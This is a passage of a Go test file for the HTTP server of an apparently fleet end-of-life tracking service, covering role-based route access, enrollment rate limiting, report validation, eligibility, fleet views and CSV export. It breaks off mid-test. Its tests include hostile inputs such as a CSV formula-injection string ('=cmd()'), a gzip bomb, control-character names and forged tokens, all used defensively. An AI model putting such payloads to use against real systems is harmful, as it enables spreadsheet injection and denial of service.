package server

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/eolwatch/eolwatch/catalog"
	"github.com/eolwatch/eolwatch/internal/jobs"
	"github.com/eolwatch/eolwatch/internal/pgtest"
	"github.com/eolwatch/eolwatch/internal/ratelimit"
	"github.com/eolwatch/eolwatch/internal/sqldb"
	"github.com/eolwatch/eolwatch/notifier"
	"github.com/eolwatch/eolwatch/server/api"
	"github.com/eolwatch/eolwatch/server/auth"
	"github.com/eolwatch/eolwatch/server/catalogsvc"
	"github.com/eolwatch/eolwatch/server/service"
	"github.com/eolwatch/eolwatch/server/store"
)

const testSecret = "enroll-me-please"

var (
	defaultCatOnce sync.Once
	defaultCat     *catalog.Catalog
	defaultCatErr  error
)

func testCatalog(t testing.TB) *catalog.Catalog {
	t.Helper()
	defaultCatOnce.Do(func() { defaultCat, defaultCatErr = catalog.Default() })
	if defaultCatErr != nil {
		t.Fatalf("catalog.Default: %v", defaultCatErr)
	}
	return defaultCat
}

// testEnv is a server over a real database (SQLite; PostgreSQL in the
// second pass, see TestMain) and real HTTP on loopback.
type testEnv struct {
	s      *Server
	svc    *service.Service
	st     *store.Store
	ts     *httptest.Server
	nt     *notifier.Service
	tokens map[string]string               // role -> token
	cat    atomic.Pointer[catalog.Catalog] // when set, replaces the catalog service's catalog
}

// testEnvNow, when set, is the clock of the domain service newTestEnvWith
// builds (the day verdicts are judged on); nil: time.Now.
var testEnvNow func() time.Time

func newTestEnv(t testing.TB) *testEnv {
	t.Helper()
	return newTestEnvWith(t, nil)
}

// newTestEnvWith is newTestEnv with the server's configuration changed by
// mod (nil: the defaults and the test enroll secret).
func newTestEnvWith(t testing.TB, mod func(*Config)) *testEnv {
	t.Helper()
	ctx := context.Background()
	cfg := DefaultConfig()
	cfg.EnrollSecret = testSecret
	if mod != nil {
		mod(&cfg)
	}
	// SQLite in a data directory, or (the PostgreSQL pass, see TestMain)
	// a fresh PostgreSQL schema with what serve adds for servers sharing
	// a database: rate limits counted in the database, and job leases.
	var st *store.Store
	var err error
	limits, jobRunner := ratelimit.InMemory, (*jobs.Leases)(nil)
	if engine == sqldb.Postgres {
		cfg.Database = pgtest.URL(t)
		st, err = store.OpenPostgres(ctx, cfg.Database)
	} else {
		st, err = store.Open(ctx, t.TempDir())
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if err := notifier.Migrate(ctx, st.DB()); err != nil {
		t.Fatal(err)
	}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	if engine == sqldb.Postgres {
		if err := errors.Join(jobs.Migrate(ctx, st.DB()), ratelimit.Migrate(ctx, st.DB())); err != nil {
			t.Fatal(err)
		}
		limits, jobRunner = ratelimit.InDatabase(st.DB()), jobs.New(st.DB(), "test", 0, log)
	}
	// A test that sets cfg.SMTPAddr gets its mail delivered there, fleet
	// alerts batched for a millisecond only.
	ncfg := notifier.Config{PublicURL: "http://127.0.0.1", Fleet: st, Limits: limits, Logger: log}
	if cfg.SMTPAddr != "" {
		ncfg.SMTPAddr, ncfg.SMTPFrom, ncfg.SMTPTLS, ncfg.FleetBatchWindow = cfg.SMTPAddr, cfg.SMTPFrom, cfg.SMTPTLS, time.Millisecond
	}
	if jobRunner != nil {
		ncfg.Jobs = jobRunner
	}
	nt, err := notifier.New(ctx, st.DB(), st.Reader(), notifierHTTP(cfg, ncfg))
	if err != nil {
		t.Fatal(err)
	}
	if err := catalogsvc.Migrate(ctx, st.DB()); err != nil {
		t.Fatal(err)
	}
	e := &testEnv{st: st, nt: nt, tokens: map[string]string{}}
	cats, err := catalogsvc.New(ctx, catalogsvc.Config{Store: catalogsvc.NewSQLStore(st.DB()), Base: testCatalog(t), Logger: log,
		OnChange: func(_, _ *catalog.Catalog) {
			if e.svc != nil {
				e.svc.CatalogChanged()
			}
		}})
	if err != nil {
		t.Fatal(err)
	}
	current := func() *catalog.Catalog {
		if c := e.cat.Load(); c != nil {
			return c
		}
		return cats.Current()
	}
	scfg := service.Config{Store: st, Customers: st, Catalog: current, Policy: cfg.Policy(), Notify: nt.Kick, Logger: log, Now: testEnvNow}
	if jobRunner != nil {
		scfg.Jobs = jobRunner
	}
	e.svc, err = service.New(scfg)
	if err != nil {
		t.Fatal(err)
	}
	e.s = newServer(options{cfg: cfg, st: st, svc: e.svc, publish: cats.Publish, notifier: nt, log: log, limits: limits})
	e.s.ready.Store(true)
	e.ts = httptest.NewServer(e.s.handler())
	t.Cleanup(e.ts.Close)
	for _, role := range auth.Roles {
		_, secret, err := st.CreateToken(ctx, role, "test")
		if err != nil {
			t.Fatal(err)
		}
		e.tokens[role] = secret
	}
	return e
}

// setCatalog swaps the catalog in force, as the catalog service does.
func (e *testEnv) setCatalog(cat *catalog.Catalog) {
	e.cat.Store(cat)
	e.svc.CatalogChanged()
}

// publishOverduePython puts in force the test catalog plus a python 3.13
// patch (3.13.99) released 100 days ago, so every older 3.13 install is
// patch-overdue, and re-evaluates the fleet under it.
func (e *testEnv) publishOverduePython(t *testing.T) {
	t.Helper()
	cat, err := testCatalog(t).WithRelease("python", "3.13", "3.13.99", time.Now().AddDate(0, 0, -100))
	if err != nil {
		t.Fatal(err)
	}
	e.setCatalog(cat)
	if err := e.svc.ReEvaluateIfStale(context.Background()); err != nil {
		t.Fatal(err)
	}
}

func (e *testEnv) do(t testing.TB, method, path, token string, body io.Reader, hdr map[string]string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, e.ts.URL+path, body)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := e.ts.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, b
}

func (e *testEnv) enroll(t testing.TB, install, hostname string) (hostID, key string) {
	t.Helper()
	body, _ := json.Marshal(api.EnrollRequest{EnrollSecret: testSecret, Host: testHost(install, hostname)})
	resp, b := e.do(t, "POST", api.PathEnroll, "", bytes.NewReader(body), nil)
	if resp.StatusCode != 200 {
		t.Fatalf("enroll: %d %s", resp.StatusCode, b)
	}
	var er api.EnrollResponse
	if err := json.Unmarshal(b, &er); err != nil {
		t.Fatal(err)
	}
	return er.HostID, er.NodeKey
}

func testHost(install, hostname string) api.HostInfo {
	return api.HostInfo{InstallID: install, Hostname: hostname, OS: "linux", Arch: "amd64", OSName: "Debian GNU/Linux 12 (bookworm)",
		OSID: "debian", OSVersion: "12"}
}

func (e *testEnv) report(t testing.TB, key string, r api.Report) (int, api.ReportResponse, []byte) {
	t.Helper()
	body, _ := json.Marshal(r)
	resp, b := e.do(t, "POST", api.PathReport, key, bytes.NewReader(body), nil)
	var rr api.ReportResponse
	json.Unmarshal(b, &rr)
	return resp.StatusCode, rr, b
}

func fullReport(id, install, hostname string, items ...api.Item) api.Report {
	return api.Report{ReportID: id, Kind: api.ReportFull, CollectedAt: time.Now(), Host: testHost(install, hostname),
		InventoryHash: "hash-" + id, Items: items}
}

// TestRouteAccess checks every route against every kind of caller.
func TestRouteAccess(t *testing.T) {
	e := newTestEnv(t)
	_, nodeKey := e.enroll(t, "install-1", "web1")
	// The expected access of every route, written out independently of routeTable.
	want := map[string]auth.Access{
		"POST /api/v1/enroll":               auth.Public,
		"POST /api/v1/report":               auth.Agent,
		"POST /api/v1/sboms":                auth.Upload,
		"GET /api/v1/hosts":                 auth.CustomerViewer,
		"GET /api/v1/hosts/{id}":            auth.CustomerViewer,
		"DELETE /api/v1/hosts/{id}":         auth.Admin,
		"POST /api/v1/hosts/{id}/revoke":    auth.Admin,
		"POST /api/v1/hosts/{id}/restore":   auth.Admin,
		"POST /api/v1/hosts/{id}/approve":   auth.Admin,
		"POST /api/v1/hosts/{id}/deny":      auth.Admin,
		"GET /api/v1/enrollments":           auth.Admin,
		"GET /api/v1/products":              auth.CustomerViewer,
		"GET /api/v1/compliance":            auth.CustomerViewer,
		"GET /api/v1/compliance/export.csv": auth.CustomerViewer,
		"GET /api/v1/unmatched":             auth.CustomerViewer,
		"GET /api/v1/eligibility":           auth.Support,
		"POST /api/v1/customers":            auth.Admin,
		"GET /api/v1/customers":             auth.Admin,
		"GET /api/v1/customers/{id}":        auth.Admin,
		"PATCH /api/v1/customers/{id}":      auth.Admin,
		"DELETE /api/v1/customers/{id}":     auth.Admin,
		"GET /api/v1/tickets/check":         auth.Support,
		"GET /api/v1/catalog":               auth.CustomerViewer,
		"POST /api/v1/catalog/releases":     auth.Admin,
		"GET /healthz":                      auth.Public,
		"GET /readyz":                       auth.Public,
		"GET /metrics":                      auth.Viewer,
		"POST /api/v1/groups":               auth.Admin,
		"GET /api/v1/groups":                auth.Viewer,
		"DELETE /api/v1/groups/{name}":      auth.Admin,
		"POST /api/v1/subscriptions":        auth.Public,
		"GET /api/v1/subscriptions":         auth.Admin,
		"GET /api/v1/outbox":                auth.Admin,
		"GET /subscribe/confirm":            auth.Public,
		"GET /unsubscribe":                  auth.Public,
		"POST /unsubscribe":                 auth.Public,
		"GET /preferences":                  auth.Public,
		"POST /preferences":                 auth.Public,
	}
	seen := map[string]bool{}
	for _, r := range e.s.routeTable() {
		seen[r.pattern] = true
		if w, ok := want[r.pattern]; !ok {
			t.Errorf("route %s has no access expectation in this test: add one", r.pattern)
		} else if w != r.access {
			t.Errorf("route %s access = %s, want %s", r.pattern, r.access, w)
		}
	}
	for p := range want {
		if !seen[p] {
			t.Errorf("route %s is expected but not registered", p)
		}
	}
	acme := e.createCustomer(t, `{"name":"Acme","tier":"premium","contract_start":"2025-01-01","contract_end":"2030-12-31"}`)
	_, scopedToken, err := e.st.CreateCustomerToken(t.Context(), "acme it", acme.ID)
	if err != nil {
		t.Fatal(err)
	}
	callers := []struct {
		name, token string
		role        string // token role, "" for none/agent/forged
		scoped      bool   // limited to one customer
	}{
		{"anonymous", "", "", false},
		{"forged", "ewt_0000000000000000000000000000000000000000", "", false},
		{"agent", nodeKey, "agent", false},
		{"viewer", e.tokens[auth.RoleViewer], auth.RoleViewer, false},
		{"viewer limited to a customer", scopedToken, auth.RoleViewer, true},
		{"support", e.tokens[auth.RoleSupport], auth.RoleSupport, false},
		{"admin", e.tokens[auth.RoleAdmin], auth.RoleAdmin, false},
		{"ci", e.tokens[auth.RoleCI], auth.RoleCI, false},
	}
	for pattern, acc := range want {
		method, path, _ := strings.Cut(pattern, " ")
		path = strings.NewReplacer("{id}", "nohost", "{name}", "nogroup").Replace(path)
		for _, c := range callers {
			body := "{}"
			if pattern == "POST /api/v1/enroll" { // public, guarded by the enroll secret in the body
				body = `{"enroll_secret":"` + testSecret + `","host":{"install_id":"x","hostname":"x"}}`
			}
			resp, rb := e.do(t, method, path, c.token, strings.NewReader(body), map[string]string{"Content-Type": "application/json"})
			got := resp.StatusCode
			var wantAllowed bool
			switch acc {
			case auth.Public:
				wantAllowed = true
			case auth.Agent:
				wantAllowed = c.role == "agent"
			default:
				wantAllowed = c.role != "" && c.role != "agent" && auth.Allows(c.role, acc)
				if c.scoped { // a token limited to a customer reaches only the routes that limit their data to it
					wantAllowed = acc == auth.CustomerViewer
				}
			}
			denied := got == http.StatusUnauthorized || got == http.StatusForbidden
			if pattern == "POST /api/v1/report" && c.role == "agent" {
				denied = got == http.StatusUnauthorized // a 403 here is the install-id check, after auth
			}
			if wantAllowed == denied {
				t.Errorf("%s %s as %s: status %d (%s), want allowed=%v", method, path, c.name, got, bytes.TrimSpace(rb), wantAllowed)
			}
			if !wantAllowed && acc != auth.Public {
				wantCode := http.StatusUnauthorized
				if c.role != "" && c.role != "agent" && acc != auth.Agent {
					wantCode = http.StatusForbidden
				}
				if got != wantCode {
					t.Errorf("%s %s as %s: status %d, want %d", method, path, c.name, got, wantCode)
				}
			}
		}
	}
}

func TestEnroll(t *testing.T) {
	e := newTestEnv(t)
	for _, tc := range []struct {
		name string
		body string
		code int
	}{
		{"wrong secret", `{"enroll_secret":"nope","host":{"install_id":"a","hostname":"h"}}`, 401},
		{"missing install id", `{"enroll_secret":"` + testSecret + `","host":{"hostname":"h"}}`, 400},
		{"control char hostname", `{"enroll_secret":"` + testSecret + `","host":{"install_id":"a","hostname":"h\u0007"}}`, 400},
		{"unknown field", `{"enroll_secret":"` + testSecret + `","host":{"install_id":"a","hostname":"h"},"admin":true}`, 400},
		{"malformed", `{"enroll_secret":`, 400},
		{"ok", `{"enroll_secret":"` + testSecret + `","host":{"install_id":"a","hostname":"h"}}`, 200},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, b := e.do(t, "POST", api.PathEnroll, "", strings.NewReader(tc.body), nil)
			if resp.StatusCode != tc.code {
				t.Errorf("enroll %s: status %d (%s), want %d", tc.name, resp.StatusCode, b, tc.code)
			}
		})
	}
	// Guessing the secret from one address is cut off.
	for i := range 25 {
		resp, _ := e.do(t, "POST", api.PathEnroll, "", strings.NewReader(`{"enroll_secret":"guess","host":{"install_id":"a","hostname":"h"}}`), nil)
		if want := 401; i >= 19 {
			if resp.StatusCode != 401 && resp.StatusCode != http.StatusTooManyRequests {
				t.Fatalf("guess %d: status %d", i, resp.StatusCode)
			}
		} else if resp.StatusCode != want {
			t.Fatalf("guess %d: status %d, want %d", i, resp.StatusCode, want)
		}
	}
	resp, _ := e.do(t, "POST", api.PathEnroll, "", strings.NewReader(`{"enroll_secret":"guess","host":{"install_id":"a","hostname":"h"}}`), nil)
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Errorf("a wrong secret after 25 wrong secrets: status %d, want 429", resp.StatusCode)
	}
	// The correct secret is judged before the limiter: never refused by it.
	resp, _ = e.do(t, "POST", api.PathEnroll, "", strings.NewReader(`{"enroll_secret":"`+testSecret+`","host":{"install_id":"c","hostname":"h"}}`), nil)
	if resp.StatusCode != http.StatusOK {
		t.Errorf("the correct secret after 25 wrong secrets: status %d, want 200", resp.StatusCode)
	}
	e.s.enrollFails = ratelimit.NewMemory(20, 10*time.Minute)
	// Without a configured secret, enrollment is refused.
	e.s.enrollSet = false
	resp, _ = e.do(t, "POST", api.PathEnroll, "", strings.NewReader(`{"enroll_secret":"","host":{"install_id":"a","hostname":"h"}}`), nil)
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("enroll without configured secret: status %d, want 403", resp.StatusCode)
	}
}

func gz(b []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

func TestReportBadInput(t *testing.T) {
	e := newTestEnv(t)
	hostID, key := e.enroll(t, "install-1", "web1")
	good := fullReport("r-good", "install-1", "web1", api.Item{Source: "dpkg", Name: "python3.11", Version: "3.11.2-6+deb12u6"})
	goodJSON, _ := json.Marshal(good)
	if code, rr, b := e.report(t, key, good); code != 200 || !rr.Accepted {
		t.Fatalf("good report: %d %s", code, b)
	}
	bomb := gz(bytes.Repeat([]byte(" "), api.MaxReportBytes+10)) // valid JSON whitespace, inflates past the limit
	tooMany := fullReport("r-many", "install-1", "web1")
	tooMany.Items = make([]api.Item, api.MaxItems+1)
	for i := range tooMany.Items {
		tooMany.Items[i] = api.Item{Source: "dpkg", Name: fmt.Sprint("p", i), Version: "1"}
	}
	tooManyJSON, _ := json.Marshal(tooMany)
	ctrl := fullReport("r-ctrl", "install-1", "web1", api.Item{Source: "dpkg", Name: "evil\nname", Version: "1"})
	ctrlJSON, _ := json.Marshal(ctrl)
	other := fullReport("r-other", "install-2", "web2")
	otherJSON, _ := json.Marshal(other)
	for _, tc := range []struct {
		name  string
		key   string
		body  []byte
		hdr   map[string]string
		code  int
		field string
	}{
		{"malformed JSON", key, []byte(`{"report_id": "x",`), nil, 400, ""},
		{"truncated", key, goodJSON[:len(goodJSON)/2], nil, 400, ""},
		{"unknown field", key, []byte(`{"report_id":"x","kind":"full","host":{"install_id":"install-1","hostname":"web1"},"extra":1}`), nil, 400, "extra"},
		{"wrong type", key, []byte(`{"report_id":7}`), nil, 400, "report_id"},
		{"trailing data", key, append(append([]byte{}, goodJSON...), []byte(`{}`)...), nil, 400, ""},
		{"missing report id", key, []byte(`{"kind":"full","host":{"install_id":"install-1","hostname":"web1"}}`), nil, 400, "report_id"},
		{"bad kind", key, []byte(`{"report_id":"x","kind":"partial","host":{"install_id":"install-1","hostname":"web1"}}`), nil, 400, "kind"},
		{"control character in a name", key, ctrlJSON, nil, 400, "items[0].name"},
		{"too many items", key, tooManyJSON, nil, 413, "items"},
		{"bad gzip", key, []byte("not gzip at all"), map[string]string{"Content-Encoding": "gzip"}, 400, ""},
		{"gzip bomb", key, bomb, map[string]string{"Content-Encoding": "gzip"}, 413, ""},
		{"unknown encoding", key, goodJSON, map[string]string{"Content-Encoding": "br"}, 415, ""},
		{"wrong content type", key, goodJSON, map[string]string{"Content-Type": "text/plain"}, 415, ""},
		{"forged key", "ewn_forged", goodJSON, nil, 401, ""},
		{"another host's install id", key, otherJSON, nil, 403, "host.install_id"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, b := e.do(t, "POST", api.PathReport, tc.key, bytes.NewReader(tc.body), tc.hdr)
			var ae api.Error
			json.Unmarshal(b, &ae)
			if resp.StatusCode != tc.code || ae.Field != tc.field || ae.Error == "" {
				t.Errorf("%s: status %d field %q (%s), want %d field %q", tc.name, resp.StatusCode, ae.Field, bytes.TrimSpace(b), tc.code, tc.field)
			}
		})
	}
	// An oversized raw body is cut off at the limit.
	big := bytes.Repeat([]byte(" "), api.MaxReportBytes+1)
	resp, b := e.do(t, "POST", api.PathReport, key, bytes.NewReader(big), nil)
	if resp.StatusCode != 413 {
		t.Errorf("oversized body: status %d (%s), want 413", resp.StatusCode, b)
	}
	// Nothing stored was lost, and the server still answers.
	d, err := e.st.HostDetail(context.Background(), store.Scope{}, hostID)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Inventory) != 2 || d.Items != 2 { // python3.11 + the OS
		t.Errorf("after bad reports: %d items, want 2", len(d.Inventory))
	}
	// gzip works, and a revoked key is refused.
	good.ReportID = "r-gz"
	gzb, _ := json.Marshal(good)
	resp, b = e.do(t, "POST", api.PathReport, key, bytes.NewReader(gz(gzb)), map[string]string{"Content-Encoding": "gzip"})
	if resp.StatusCode != 200 {
		t.Errorf("gzip report: %d %s", resp.StatusCode, b)
	}
	if err := e.st.RevokeHost(context.Background(), hostID); err != nil {
		t.Fatal(err)
	}
	good.ReportID = "r-revoked"
	if code, _, b := e.report(t, key, good); code != 401 {
		t.Errorf("revoked key: %d %s, want 401", code, b)
	}
}

func TestReportIdempotentAndVerdicts(t *testing.T) {
	e := newTestEnv(t)
	hostID, key := e.enroll(t, "install-1", "web1")
	r := fullReport("r1", "install-1", "web1",
		api.Item{Source: "dpkg", Name: "python3.8", Version: "3.8.10-0ubuntu1~20.04"},
		api.Item{Source: "dpkg", Name: "python3.8", Version: "3.8.10-0ubuntu1~20.04"}, // an exact duplicate line
		api.Item{Source: "dpkg", Name: "nginx", Version: "not a version!"},
		api.Item{Source: "dpkg", Name: "libunknown-thing", Version: "1.0"},
	)
	for i := range 2 {
		code, rr, b := e.report(t, key, r)
		if code != 200 || !rr.Accepted || rr.Duplicate != (i == 1) || rr.HostID != hostID {
			t.Fatalf("report #%d: %d %s", i, code, b)
		}
	}
	d, err := e.st.HostDetail(context.Background(), store.Scope{}, hostID)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, v := range d.Verdicts {
		got[v.Product] = v.Status
	}
	if got["python"] != catalog.StatusEOL {
		t.Errorf("python 3.8 status = %q, want eol (verdicts %+v)", got["python"], d.Verdicts)
	}
	if s, ok := got["nginx"]; ok && s != catalog.StatusUnknownVersion {
		t.Errorf("nginx with an unparsable version: status %q, want unknown-version", s)
	}
	if d.Unmatched < 1 {
		t.Errorf("unmatched = %d, want at least 1 (libunknown-thing)", d.Unmatched)
	}
	// Check-in: same hash fine, unknown hash asks for a full report.
	ci := api.Report{ReportID: "c1", Kind: api.ReportCheckin, Host: testHost("install-1", "web1"), InventoryHash: "hash-r1"}
	if code, rr, b := e.report(t, key, ci); code != 200 || rr.NeedFull {
		t.Errorf("check-in: %d %s, want 200 without need_full", code, b)
	}
	ci.ReportID, ci.InventoryHash = "c2", "something else"
	if code, rr, b := e.report(t, key, ci); code != 200 || !rr.NeedFull {
		t.Errorf("check-in with a new hash: %d %s, want need_full", code, b)
	}
}

func TestEligibilityAPI(t *testing.T) {
	e := newTestEnv(t)
	hostID, key := e.enroll(t, "install-1", "web1")
	if code, _, b := e.report(t, key, fullReport("r1", "install-1", "web1", api.Item{Source: "dpkg", Name: "python3.8", Version: "3.8.10-0ubuntu1~20.04"})); code != 200 {
		t.Fatalf("report: %d %s", code, b)
	}
	e.enroll(t, "install-2", "twin")
	e.enroll(t, "install-3", "twin")
	sup := e.tokens[auth.RoleSupport]
	debianLatest := testCatalog(t).Evaluate("debian", "13", time.Now(), catalog.DefaultPolicy()).Latest
	get := func(t *testing.T, q string) (int, api.Eligibility, api.Error) {
		resp, b := e.do(t, "GET", api.PathEligibility+"?"+q, sup, nil, nil)
		var el api.Eligibility
		var ae api.Error
		json.Unmarshal(b, &el)
		json.Unmarshal(b, &ae)
		return resp.StatusCode, el, ae
	}
	for _, tc := range []struct {
		q        string
		code     int
		eligible bool
		status   string
		field    string
	}{
		{"product=python&version=3.8.10", 200, false, catalog.StatusEOL, ""},
		{"product=debian&version=" + debianLatest, 200, true, "", ""},
		{"product=no-such-product&version=1.0", 200, false, catalog.StatusUnknownProduct, ""},
		{"product=python&version=banana", 200, false, catalog.StatusUnknownVersion, ""},
		{"host=web1&product=python", 200, false, catalog.StatusEOL, ""},
		{"host=" + hostID + "&product=python", 200, false, catalog.StatusEOL, ""},
		{"host=web1&product=debian", 200, true, "", ""}, // Debian 12: Debian LTS counts under the default policy
		{"host=web1&product=nginx", 404, false, "", ""},
		{"host=nohost&product=python", 404, false, "", ""},
		{"host=twin&product=python", 409, false, "", "host"},
		{"version=3.8", 400, false, "", "product"},
		{"product=python", 400, false, "", "version"},
		{"product=python&version=3.8&host=web1", 400, false, "", "host"},
	} {
		t.Run(tc.q, func(t *testing.T) {
			code, el, ae := get(t, tc.q)
			if code != tc.code || (code == 200 && (el.Eligible != tc.eligible || (tc.status != "" && el.Status != tc.status) || el.Reason == "")) || ae.Field != tc.field {
				t.Errorf("eligibility?%s = %d %+v %+v, want %d eligible=%v status=%q field=%q", tc.q, code, el, ae, tc.code, tc.eligible, tc.status, tc.field)
			}
		})
	}
	// The rule: eligible exactly when supported and not patch-overdue.
	for _, v := range []catalog.Verdict{
		{Support: catalog.SupportSupported, Patch: catalog.PatchCurrent},
		{Support: catalog.SupportSupported, Patch: catalog.PatchAvailable},
		{Support: catalog.SupportSupported, Patch: catalog.PatchOverdue},
		{Support: catalog.SupportEOL, Patch: catalog.PatchCurrent},
		{Support: catalog.SupportUnknownVersion, Patch: catalog.PatchUnknown},
	} {
		t.Run(fmt.Sprintf("%s/patch-%s", v.Support, v.Patch), func(t *testing.T) {
			want := v.Support == catalog.SupportSupported && v.Patch != catalog.PatchOverdue
			if got := service.Eligible(v); got != want {
				t.Errorf("Eligible(%s, patch %s) = %v, want %v", v.Support, v.Patch, got, want)
			}
		})
	}
}

func TestFleetViews(t *testing.T) {
	e := newTestEnv(t)
	for i := range 3 {
		install := fmt.Sprint("install-", i)
		_, key := e.enroll(t, install, fmt.Sprint("host", i)) // Debian 12 is supported (Debian LTS); python 3.8 is eol
		v := "3.8.10-0ubuntu1~20.04"
		if i == 0 {
			v = "3.13.1-1"
		}
		if code, _, b := e.report(t, key, fullReport("r1", install, fmt.Sprint("host", i), api.Item{Source: "dpkg", Name: "python3", Version: v})); code != 200 {
			t.Fatalf("report: %d %s", code, b)
		}
	}
	tok := e.tokens[auth.RoleViewer]
	resp, b := e.do(t, "GET", "/api/v1/hosts?product=python&cycle=3.8&limit=1", tok, nil, nil)
	var hl api.HostList
	json.Unmarshal(b, &hl)
	if resp.StatusCode != 200 || hl.Total != 2 || len(hl.Hosts) != 1 || hl.Next == "" {
		t.Errorf("hosts?product=python&cycle=3.8&limit=1 = %d %s, want 1 of 2 with a next cursor", resp.StatusCode, b)
	}
	resp, b = e.do(t, "GET", "/api/v1/hosts?limit=1&cursor="+hl.Next+"&product=python&cycle=3.8", tok, nil, nil)
	var hl2 api.HostList
	json.Unmarshal(b, &hl2)
	if resp.StatusCode != 200 || len(hl2.Hosts) != 1 || hl2.Hosts[0].ID == hl.Hosts[0].ID || hl2.Next != "" {
		t.Errorf("second page = %d %s", resp.StatusCode, b)
	}
	for _, q := range []string{"status=bogus", "limit=0", "cursor=!!!", "cycle=3.8"} {
		if resp, b := e.do(t, "GET", "/api/v1/hosts?"+q, tok, nil, nil); resp.StatusCode != 400 {
			t.Errorf("hosts?%s = %d %s, want 400", q, resp.StatusCode, b)
		}
	}
	resp, b = e.do(t, "GET", "/api/v1/products", tok, nil, nil)
	var ps struct{ Products []api.FleetProduct }
	json.Unmarshal(b, &ps)
	found := false
	for _, p := range ps.Products {
		if p.Product == "python" {
			found = p.Hosts == 3 && len(p.Versions) == 2
		}
	}
	if resp.StatusCode != 200 || !found {
		t.Errorf("products = %d %s, want python on 3 hosts in 2 versions", resp.StatusCode, b)
	}
	resp, b = e.do(t, "GET", "/api/v1/compliance", tok, nil, nil)
	var c api.Compliance
	json.Unmarshal(b, &c)
	if resp.StatusCode != 200 || c.Hosts != 3 || c.InstallsByStatus[catalog.StatusEOL] < 2 {
		t.Errorf("compliance = %d %s", resp.StatusCode, b)
	}
	resp, b = e.do(t, "GET", "/api/v1/compliance/export.csv", tok, nil, nil)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(lines[0], "host_id,hostname,product") {
		t.Errorf("export.csv = %d %q", resp.StatusCode, b)
	}
	pythonEOL := 0
	for _, l := range lines[1:] {
		if strings.Contains(l, ",python,3.8.10,") {
			pythonEOL++
		}
	}
	if pythonEOL != 2 {
		t.Errorf("export.csv has %d python 3.8.10 rows, want 2:\n%s", pythonEOL, b)
	}
	resp, b = e.do(t, "GET", "/api/v1/unmatched?limit=5", tok, nil, nil)
	if resp.StatusCode != 200 || !bytes.Contains(b, []byte(`"unmatched":[`)) {
		t.Errorf("unmatched = %d %s", resp.StatusCode, b)
	}
	resp, b = e.do(t, "GET", "/api/v1/hosts/host0", tok, nil, nil)
	var d api.HostDetail
	json.Unmarshal(b, &d)
	if resp.StatusCode != 200 || d.Hostname != "host0" || len(d.Verdicts) == 0 || len(d.Inventory) != 2 {
		t.Errorf("hosts/host0 = %d %s", resp.StatusCode, b)
	}
	resp, b = e.do(t, "GET", "/metrics", tok, nil, nil)
	if resp.StatusCode != 200 || !bytes.Contains(b, []byte(`eolwatch_reports_ingested_total{kind="full",result="applied"} 3`)) ||
		!bytes.Contains(b, []byte(`eolwatch_hosts{status="eol"} 2`)) || !bytes.Contains(b, []byte("eolwatch_ingest_duration_seconds_bucket")) {
		t.Errorf("metrics = %d\n%s", resp.StatusCode, b)
	}
	// the catalog's date and age, as verdicts name them
	date := testCatalog(t).Info().Date
	wantDate := fmt.Sprintf("eolwatch_catalog_date_timestamp_seconds %g\n", float64(date.Unix()))
	wantAge := fmt.Sprintf("eolwatch_catalog_age_days %d\n", catalogAgeDays(date.Time, time.Now()))
	if !bytes.Contains(b, []byte(wantDate)) || !bytes.Contains(b, []byte(wantAge)) {
		t.Errorf("metrics lack %q and %q", wantDate, wantAge)
	}
}

func TestCatalogAgeDays(t *testing.T) {
	taken := time.Date(2026, 8, 22, 0, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		name string
		now  time.Time
		want int
	}{
		{"same day", time.Date(2026, 8, 22, 23, 59, 0, 0, time.UTC), 0},
		{"101 days later", time.Date(2026, 12, 1, 15, 0, 0, 0, time.UTC), 101},
		{"late evening west of UTC", time.Date(2026, 11, 30, 20, 0, 0, 0, time.FixedZone("EST", -5*3600)), 101},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := catalogAgeDays(taken, tc.now); got != tc.want {
				t.Errorf("catalogAgeDays(%v) = %d, want %d", tc.now, got, tc.want)
			}
		})
	}
}

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{"=cmd()": "'=cmd()", "+1": "'+1", "-x": "'-x", "@a": "'@a", "\tx": "'\tx", "\r=1": "'\r=1", "web1": "web1", "": ""} {
		if got := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestReEvaluateOnCatalogChange(t *testing.T) {
	e := newTestEnv(t)
	_, key := e.enroll(t, "install-1", "web1")
	latest := testCatalog(t).Evaluate("python", "3.13", time.Now(), catalog.DefaultPolicy()).Latest
	if code, _, b := e.report(t, key, fullReport("r1", "install-1", "web1", api.Item{Source: "dpkg", Name: "python3.13", Version: latest + "-1"})); code != 200 {
		t.Fatalf("report: %d %s", code, b)
	}
	ctx := context.Background()
	if err := e.svc.ReEvaluateIfStale(ctx); err != nil {
		t.Fatal(err)
	}
	before, _ := e.st.Compliance(ctx, store.Scope{})
	// Publish a newer 3.13 patch dated long ago: the install becomes patch-overdue.
	e.publishOverduePython(t)
	after, _ := e.st.Compliance(ctx, store.Scope{})
	if after.CatalogVersion == before.CatalogVersion || after.InstallsByStatus[catalog.StatusPatchOverdue] != before.InstallsByStatus[catalog.StatusPatchOverdue]+1 {
